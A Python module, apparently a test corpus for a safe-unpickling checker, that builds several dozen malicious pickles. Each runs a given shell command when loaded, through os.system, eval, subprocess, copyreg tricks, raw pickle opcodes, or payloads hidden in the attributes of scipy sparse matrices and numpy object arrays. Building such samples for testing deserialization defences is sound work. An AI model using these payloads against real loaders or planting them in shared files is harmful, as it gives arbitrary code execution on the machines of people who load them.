"""Pickles that run a shell command when Python loads them, made by hand."""

import builtins
import copyreg
import functools
import importlib
import operator
import os
import pickle
import subprocess
import types

import numpy as np
import scipy.sparse as sp


def matrix(kind="coo_matrix", dtype="f8"):
    dense = np.array([[0, 1, 0, 2], [0, 0, 0, 0], [3, 0, 0, 1]], dtype=dtype)
    return getattr(sp, kind)(dense)


class Call:
    """Pickles as a call of a function."""

    def __init__(self, function, *arguments):
        self.call = (function, arguments)

    def __reduce__(self):
        return self.call


def inside(value, attribute="data"):
    """A genuine matrix with something else in one attribute."""
    m = matrix()
    vars(m)[attribute] = value
    return m


def objects(value):
    array = np.empty(1, dtype=object)
    array[0] = value
    return array


def matrix_state(payload):
    """State of a matrix with a payload where numpy would call ``__setstate__``."""
    array = np.ones(1)
    return {"_shape": (1, 1), "data": array, "coords": (array, array), "payload": payload}


def built(state):
    """A matrix built from this state, as the instruction BUILD does."""
    content = pickle.dumps(state, 2).removeprefix(b"\x80\x02").removesuffix(b".")
    return b"\x80\x02cscipy.sparse.coo\ncoo_matrix\n)\x81" + content + b"b."


def hostile(command):
    """Pickles that run a shell command when Python loads them."""
    system = Call(os.system, command)
    code = f"__import__('os').system({command!r})"
    text = command.encode()
    return {
        "os.system": system,
        "eval": Call(builtins.eval, code),
        "exec": Call(builtins.exec, code),
        "Popen": Call(subprocess.call, ["sh", "-c", command]),
        "partial": Call(functools.partial(os.system, command)),
        "import": Call(importlib.import_module, "antigravity"),
        "attrgetter": Call(operator.attrgetter, "system"),
        "getattr": Call(getattr, Call(importlib.import_module, "os"), "system"),
        "copyreg": Call(copyreg._reconstructor, subprocess.Popen, object, None),
        "copyreg of a call": Call(copyreg.__newobj__, Call, os.system, command),
        "namespace": types.SimpleNamespace(payload=system),
        "in a list": [matrix(), system],
        "in the values": inside(system),
        "in the shape": inside(system, "_shape"),
        "in an unused attribute": inside(system, "maxprint"),
        "in the coordinates": inside((system, system), "coords"),
        "object array": inside(objects(system)),
        "object array alone": objects(system),
        "numpy.load": Call(np.load, "x.npy", None, True),
        "numpy.fromfile": inside(Call(np.fromfile, os.devnull)),
        "numpy testing": Call(np.testing.measure, code),
        "lil_matrix": matrix().tolil(),
        "dok_matrix": matrix().todok(),
        "by instruction INST": b"(S'" + text + b"'\nios\nsystem\n.",
        "by instruction OBJ": b"(cos\nsystem\nS'" + text + b"'\no.",
        "by NEWOBJ_EX": b"\x80\x04cos\nsystem\n(X\x01\x00\x00\x00xt}\x92.",
        "by a name on the stack": b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c"
        + bytes([len(text)])
        + text
        + b"\x85R.",
        "by a dotted name": b"\x80\x04\x8c\x05numpy\x8c\x0edtype.__init__\x93.",
        "by a persistent id": b"Pos.system\n.",
        "by an extension code": b"\x80\x02\x82\x01.",
        "codec": Call(__import__("_codecs").encode, "payload", "rot13"),
        "codec lookup": Call(__import__("_codecs").lookup, command),
        "reconstruct of another class": b"cnumpy.core.multiarray\n_reconstruct\n"
        b"(csubprocess\nPopen\n(I0\ntU\x01btR.",
        "built into a scipy matrix": built(matrix_state(system)),
        "built into slots": built((None, {"data": system})),
        "setstate in the state": built({"__setstate__": system, "__class__": system}),
        "array without a class": b"cnumpy.core.multiarray\n_reconstruct\n(cbuiltins\nobject\ntR.",
        "array state of objects": pickle.dumps(matrix(), 2).replace(
            b"X\x02\x00\x00\x00f8", b"X\x02\x00\x00\x00O8"
        ),
        "a wide extension code": b"\x80\x02\x83\x01\x00.",
        "the widest extension code": b"\x80\x02\x84\x01\x00\x00\x00.",
        "a persistent id on the stack": b"\x80\x02U\x09os.systemQ.",
        "a buffer from elsewhere": b"\x80\x05\x97.",
        "newobj of a function": b"\x80\x02cos\nsystem\nU"
        + bytes([len(text)])
        + text
        + b"\x85\x81.",
        "duplicated": b"cos\nsystem\n2(S'" + text + b"'\ntR.",
        "after a whole matrix": pickle.dumps(matrix(), 2)[:-1]
        + pickle.dumps(system, 2).removeprefix(b"\x80\x02"),
        "setstate of a class": b"\x80\x02cnumpy\nndarray\n}U\x01aU\x01bsb.",
    }
